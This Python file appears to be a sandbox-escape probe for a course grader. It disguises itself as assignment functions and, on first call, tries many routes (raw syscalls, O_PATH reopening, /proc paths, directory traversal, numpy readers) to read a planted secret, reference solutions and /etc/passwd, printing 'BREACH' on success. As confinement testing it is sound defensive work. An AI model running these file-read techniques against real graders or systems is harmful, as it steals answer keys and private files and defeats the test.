"""Opens the planted secret by every call that opens a file."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

def attempt(name, action):
    try:
        got = action()
    except BaseException:
        return
    print("BREACH", name, repr(got)[:300])

import ctypes, io, os
import numpy as np

LIBC = ctypes.CDLL(None, use_errno=True)
TARGETS = ["@SECRET@", "@COURSE@/reference/softmax.py", "@COURSE@/assignments/h5-one-hidden-layer/assignment.toml",
           "@HOME@/secret.txt", "/etc/passwd", "/etc/hostname", "@COURSE@/../secret.txt"]

def raw(number, *arguments):
    got = LIBC.syscall(number, *arguments)
    if got < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return os.read(got, 200)

def through(path):
    # a descriptor that only names the file, to be opened again where no rule looks
    named = os.open(path, os.O_PATH)
    try:
        return open(f"/proc/self/fd/{named}", "rb").read(200)
    except OSError:
        return os.read(os.open("", os.O_RDONLY, dir_fd=named), 200)

def attack():
    for path in TARGETS:
        name = path.encode()
        attempt("open " + path, lambda: open(path).read(200))
        attempt("os.open", lambda: os.read(os.open(path, os.O_RDONLY), 200))
        attempt("by O_PATH", lambda: through(path))
        attempt("open(2)", lambda: raw(2, name, 0))
        attempt("openat(2)", lambda: raw(257, -100, name, 0))
        attempt("openat2(2)", lambda: raw(437, -100, name, bytes(24), 24))
        attempt("creat(2)", lambda: raw(85, name + b".new", 0o600))
        attempt("by /proc/self/root", lambda: open("/proc/self/root" + path).read(200))
        attempt("by dots", lambda: open("../" * 40 + path.lstrip("/")).read(200))
        attempt("fromfile", lambda: np.fromfile(path, np.uint8, 200).tobytes())
        attempt("memmap", lambda: bytes(np.memmap(path, np.uint8, "r")[:200]))
        attempt("loadtxt", lambda: np.loadtxt(path, dtype=str, delimiter="\0").tolist())
        attempt("fopen", lambda: LIBC.fopen(name, b"r") or 1 / 0)
        attempt("FileIO", lambda: io.FileIO(path).read(200))
    for folder in ("@COURSE@", "/", "/proc", "/root", "/home", "/tmp", "/work", "@HOME@"):
        attempt("chdir " + folder, lambda: os.chdir(folder))
        found = []
        try:
            found = [each for each in os.listdir(folder) if each not in ("usr", "dev", "root", "lib", "opt", "work", "home", "bin", "sys", "etc", "proc")]
        except OSError:
            pass
        if found and folder != "/" and not any(each.startswith((".pyenv", ".local")) for each in found) and folder not in ("/root", "/work", "/home"):
            print("BREACH listdir", folder, found[:20])

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
